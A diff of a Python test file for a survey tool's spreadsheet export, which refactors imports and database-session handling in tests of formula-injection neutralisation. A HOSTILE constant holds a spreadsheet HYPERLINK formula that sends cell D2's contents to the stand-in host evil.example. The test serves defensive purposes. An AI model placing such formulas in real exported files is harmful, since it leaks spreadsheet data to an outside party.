@@ -11,11 +11,10 @@ import sqlalchemy as sa
 from openpyxl import Workbook, load_workbook
 
 from analysis.safecell import FORMULA_STARTS, csv_text, neutralise, neutralise_row
-from survey.extensions import db
 from survey.models import Unit
 from tests.conftest import QUESTIONNAIRE, SMALL_ORG
+from tests.support.factory import invite, issue_links
 from tests.survey.answers import answer_rows, write_rows
-from tests.survey.respondent import invite, issue_links
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&D2,"Öppna")'
 NAMES = {"EDU-A": HOSTILE, "EDU-B": "+46 40 34 10 00", "CARE": "-Omsorg", "EDU": "@Utbildning"}
@@ -32,7 +31,7 @@ def _org(tmp_path: Path, year: int = 2025) -> Path:
 
 
 @pytest.fixture
-def hostile_tree(runner, tmp_path):
+def hostile_tree(runner, tmp_path, db_session):
     """The small tree with formula-like names, imported through `mognad org import`."""
     for year in (2024, 2025):
         result = runner.invoke(
@@ -41,8 +40,8 @@ def hostile_tree(runner, tmp_path):
         assert result.exit_code == 0, result.output
     # Tab and carriage return cannot come in through the import (control characters are
     # refused there); written behind its back they must still come out neutralised.
-    db.session.execute(sa.update(Unit).where(Unit.code == "CITY").values(name="\tStaden\r"))
-    db.session.commit()
+    db_session.execute(sa.update(Unit).where(Unit.code == "CITY").values(name="\tStaden\r"))
+    db_session.commit()
 
 
 def _hostile(value: str) -> bool:
